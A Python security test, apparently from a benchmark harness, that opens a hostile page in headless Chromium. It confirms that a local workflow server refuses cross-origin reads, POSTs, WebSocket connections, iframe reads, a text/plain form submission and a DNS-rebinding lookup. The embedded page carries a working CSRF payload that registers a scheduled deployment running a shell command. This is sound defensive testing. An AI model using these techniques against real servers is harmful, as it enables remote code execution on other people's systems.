"""A hostile page in Chromium, which tries to read and change a server of ours from another origin."""

from __future__ import annotations

import json
import subprocess
import tempfile
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Final
from urllib.parse import urlsplit

if TYPE_CHECKING:
    from benchmarks.faults.harness import Trials

EVIL: Final = "http://evil.test"
# What ran as the operator within 18 s: a deployment whose pull step is a shell command.
HOSTILE: Final = {
    "name": "schedule",
    "flow_id": "00000000-0000-4000-8000-000000000000",
    "pull_steps": [{"prefect.deployments.steps.run_shell_script": {"script": "touch /tmp/owned"}}],
    "schedules": [{"schedule": {"interval": 1}, "active": True}],
}
_BROWSER_SECONDS: Final = 600.0
_PAGE: Final = """<!doctype html><title>Kittens</title><body><script>
const target = TARGET, hostile = HOSTILE, found = {};
async function attempt(name, what) {
  try { found[name] = String(await Promise.race([what(), new Promise(r => setTimeout(() => r('refused'), 8000))])); }
  catch (error) { found[name] = 'refused'; }
}
const post = (options) => fetch(target + '/api/deployments/', {method: 'POST', body: JSON.stringify(hostile), ...options});
const socket = (path) => () => new Promise(resolve => {
  const one = new WebSocket(target.replace('http', 'ws') + path, 'prefect');
  one.onmessage = event => resolve(event.data);
  one.onopen = () => one.send(JSON.stringify({type: 'auth', token: null}));
  one.onclose = one.onerror = () => resolve('refused');
});
(async () => {
  await attempt('read', async () => (await fetch(target + '/api/admin/version')).text());
  await attempt('read settings', async () => (await fetch(target + '/ui-settings')).text());
  await attempt('read with credentials', async () => (await fetch(target + '/api/admin/settings', {credentials: 'include'})).text());
  await attempt('post', async () => (await post({headers: {'Content-Type': 'application/json'}})).text());
  await attempt('post plainly', async () => (await post({headers: {'Content-Type': 'text/plain'}})).text());
  await attempt('post blindly', async () => (await post({mode: 'no-cors', credentials: 'include'})).type === 'opaque' ? 'refused' : 'read');
  await attempt('beacon', async () => { navigator.sendBeacon(target + '/api/deployments/', JSON.stringify(hostile)); return 'refused'; });
  await attempt('events in', socket('/api/events/in'));
  await attempt('events out', socket('/api/events/out'));
  await attempt('logs out', socket('/api/logs/out'));
  await attempt('frame', () => new Promise(resolve => {
    const frame = document.createElement('iframe');
    frame.onload = () => { try { resolve(frame.contentDocument.body.innerText || 'refused'); } catch { resolve('refused'); } };
    frame.src = target; document.body.append(frame);
  }));
  await attempt('form', async () => {
    const form = document.createElement('form'), frame = document.createElement('iframe');
    frame.name = 'sink'; form.target = 'sink'; form.method = 'post'; form.enctype = 'text/plain';
    form.action = target + '/api/deployments/';
    const field = document.createElement('input'); field.name = JSON.stringify(hostile); form.append(field);
    document.body.append(frame, form); form.submit(); await new Promise(r => setTimeout(r, 1000)); return 'refused';
  });
  await fetch('/found', {method: 'POST', body: JSON.stringify(found)});
})();
</script>"""


class _Hostile(BaseHTTPRequestHandler):
    """A site that serves the page above, and hears what it found."""

    page = b""
    found: dict[str, str] | None = None

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(self.page)

    def do_POST(self) -> None:
        type(self).found = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self.send_response(204)
        self.end_headers()

    def log_message(self, *_: object) -> None:
        """Say nothing."""


def open_hostile_page(address: str, trials: Trials, chromium: str) -> None:
    """Open the page in a browser, and note what it could do to the server at `address`."""
    _Hostile.found = None
    _Hostile.page = _PAGE.replace("TARGET", json.dumps(address)).replace("HOSTILE", json.dumps(HOSTILE)).encode()
    site = ThreadingHTTPServer(("127.0.0.1", 0), _Hostile)
    threading.Thread(target=site.serve_forever, daemon=True).start()
    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as profile:
        browser = [
            chromium, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
            f"--user-data-dir={profile}", "--host-resolver-rules=MAP evil.test 127.0.0.1",
        ]  # fmt: skip
        process = subprocess.Popen(
            [*browser, "--remote-debugging-port=0", f"{EVIL}:{site.server_address[1]}/"],
            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True,
        )  # fmt: skip
        try:
            deadline = time.monotonic() + _BROWSER_SECONDS
            while _Hostile.found is None and process.poll() is None and time.monotonic() < deadline:
                time.sleep(0.2)
        finally:
            process.kill()
            process.wait()
            site.shutdown()
            site.server_close()
        if trials.expect(_Hostile.found is not None, "the browser did not open the hostile page"):
            for name, result in (_Hostile.found or {}).items():
                trials.made["browser"] += 1
                trials.expect(result == "refused", f"a page in a browser, {name}: {result[:80]}")
        # A name of the attacker's that leads to this machine: the page is of the attacker's origin, if it opens.
        rebound = f"{EVIL}:{urlsplit(address).port}/"
        done = subprocess.run(
            [*browser, "--dump-dom", rebound], capture_output=True, text=True, timeout=_BROWSER_SECONDS, check=False
        )
        trials.made["browser"] += 1
        trials.expect("Unknown host" in done.stdout, f"{rebound} in a browser: {done.stdout[:80]!r}")
